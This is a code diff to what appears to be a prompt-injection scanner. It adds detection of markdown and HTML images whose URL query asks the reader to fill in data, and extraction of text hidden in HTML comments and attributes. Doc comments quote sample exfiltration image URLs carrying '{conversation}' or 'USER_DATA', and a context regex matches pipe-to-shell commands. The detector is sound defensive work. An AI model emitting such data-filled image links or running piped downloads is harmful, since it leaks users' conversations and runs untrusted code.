@@ -49,6 +49,100 @@ const SPECIAL_TOKEN = new RegExp(SPECIAL_TOKENS.map((tok) => tok.replace(/[.*+?^
 
 /** An upper-case slot name as a query value, for the reader to fill in. */
 const PLACEHOLDER = /=[A-Z][A-Z0-9]{1,20}_[A-Z0-9_]{2,40}(?:&|$)/;
+/**
+ * A URL query (`lower`: lower-cased, `raw`: as written) with a placeholder for the reader to fill in: braces,
+ * brackets, an empty value, or an upper-case slot name ("?notes=SUMMARY_OF_CONVERSATION").
+ */
+function placeholderQuery(lower: string, raw: string): boolean {
+  return /[{}<>$[]|%7b|%3c|=$/.test(lower) || /(?:^|&)(?:data|info|q|msg|p|pw|email|history|secret|token|user|conv)=(?:&|$)/.test(lower) || PLACEHOLDER.test(raw);
+}
+/** Farthest an image's `](` or `src=` may be from its `![` or `<img`. */
+const IMAGE_HEAD_SPAN = 300;
+
+/**
+ * An image URL right after `](` or `src=`: it holds no `(`, `)`, `]`, `<`, `>`, quotes or blanks, so URLs that
+ * start at different positions never overlap and reading them all is linear.
+ */
+const IMAGE_URL = /["' ]{0,3}(https?:\/\/[^\s()\]<>"']{1,2048})/y;
+
+/**
+ * An image the renderer would load from a URL whose query is a placeholder for the reader to fill in
+ * (`![x](https://h.example/p.png?d={conversation})`, `<img src="https://h.example/?q=USER_DATA">`): the reader is
+ * asked to put data into a request the client makes on its own. A link the user has to click is not this signal.
+ * The `![`, `](`, `<img` and `src=` scans only move forward; each URL is read once.
+ */
+export function imageExfiltration(text: string): boolean {
+  const n = text.length;
+  // Lower-casing keeps offsets except for a rare 'İ'; then the text is searched as written.
+  const folded = text.toLowerCase();
+  const lower = folded.length === n ? folded : text;
+  let reads = n;
+  const urlAt = (from: number): boolean => {
+    IMAGE_URL.lastIndex = from;
+    const m = execCounted(IMAGE_URL, text);
+    if (m === null) return false;
+    const url = m[1]!;
+    const q = url.indexOf('?');
+    return q >= 0 && placeholderQuery(url.slice(q + 1).toLowerCase(), url.slice(q + 1));
+  };
+  // Markdown: every "](" with a "![" at most IMAGE_HEAD_SPAN before it.
+  let bang = -1; // latest "![" before the current "]("
+  let nextBang = lower.indexOf('![');
+  let p = lower.indexOf('](');
+  for (; p >= 0; p = lower.indexOf('](', p + 2)) {
+    while (nextBang >= 0 && nextBang < p) {
+      bang = nextBang;
+      nextBang = lower.indexOf('![', nextBang + 2);
+    }
+    if (bang >= 0 && p - bang <= IMAGE_HEAD_SPAN && urlAt(p + 2)) {
+      countWork(reads + p);
+      return true;
+    }
+  }
+  reads += n;
+  // HTML: every "<img" with a "src=" at most IMAGE_HEAD_SPAN after it (the next "src=" is found once per position).
+  let src = -1;
+  let lastFrom = -1;
+  for (let i = lower.indexOf('<img'); i >= 0; i = lower.indexOf('<img', i + 4)) {
+    if (src < i) {
+      src = lower.indexOf('src=', i);
+      if (src < 0) break;
+    }
+    if (src - i > IMAGE_HEAD_SPAN || src === lastFrom) continue;
+    lastFrom = src;
+    if (urlAt(src + 4)) {
+      countWork(reads + i);
+      return true;
+    }
+  }
+  countWork(reads + n);
+  return false;
+}
+
+/** Longest HTML comment or attribute value read as a hidden-text view. */
+const HIDDEN_SPAN = 4096;
+/** An `alt`, `title` or `aria-label` attribute value (up to {@link HIDDEN_SPAN} characters, no quote or angle bracket). */
+const ATTR = /\b(?:alt|title|aria-label)\s{0,3}=\s{0,3}(["'])([^"'<>]{1,4096})\1/gi;
+
+/**
+ * What `text` hides from a human reader in its markup: the bodies of HTML comments and the `alt`, `title` and
+ * `aria-label` attribute values, joined by line ends (each at most {@link HIDDEN_SPAN} characters); `''` when none.
+ */
+export function hiddenMarkupText(text: string): string {
+  const parts: string[] = [];
+  let reads = 0;
+  for (let i = text.indexOf('<!--'), end: number; i >= 0; i = text.indexOf('<!--', end)) {
+    const close = text.indexOf('-->', i + 4);
+    end = close < 0 ? text.length : close + 3;
+    reads += end - i;
+    parts.push(text.slice(i + 4, Math.min(close < 0 ? text.length : close, i + 4 + HIDDEN_SPAN)));
+  }
+  countWork(text.length + reads);
+  ATTR.lastIndex = 0;
+  for (let m = execCounted(ATTR, text); m !== null; m = execCounted(ATTR, text)) parts.push(m[2]!);
+  return parts.join('\n');
+}
+
 /** After a '|': a shell that runs what was piped in (`| sh`, `| sudo bash`). */
 const SHELL_AFTER_PIPE = /\|[ \t]{0,3}(?:sudo[ \t]{1,3}(?:-[a-z]{1,3}[ \t]{1,3}){0,2})?(?:ba|z|da|k)?sh\b/y;
 /** How far before a shell pipe the download command may start, and after `eval(` the remote source. */
@@ -195,9 +289,7 @@ export function structural(text: string, untrusted: boolean, add: Add): void {
     const q = url.indexOf('?');
     if (q < 0) continue;
     const query = url.slice(q + 1);
-    // A placeholder for the reader to fill in: braces, brackets, an empty value, or an upper-case slot name
-    // ("?notes=SUMMARY_OF_CONVERSATION").
-    if (/[{}<>$[]|%7b|%3c|=$/.test(query) || /(?:^|&)(?:data|info|q|msg|p|pw|email|history|secret|token|user|conv)=(?:&|$)/.test(query) || PLACEHOLDER.test(m[0].slice(q + 1))) {
+    if (placeholderQuery(query, m[0].slice(q + 1))) {
       add('indirect.exfil-url', W.exfilUrl);
       break;
     }
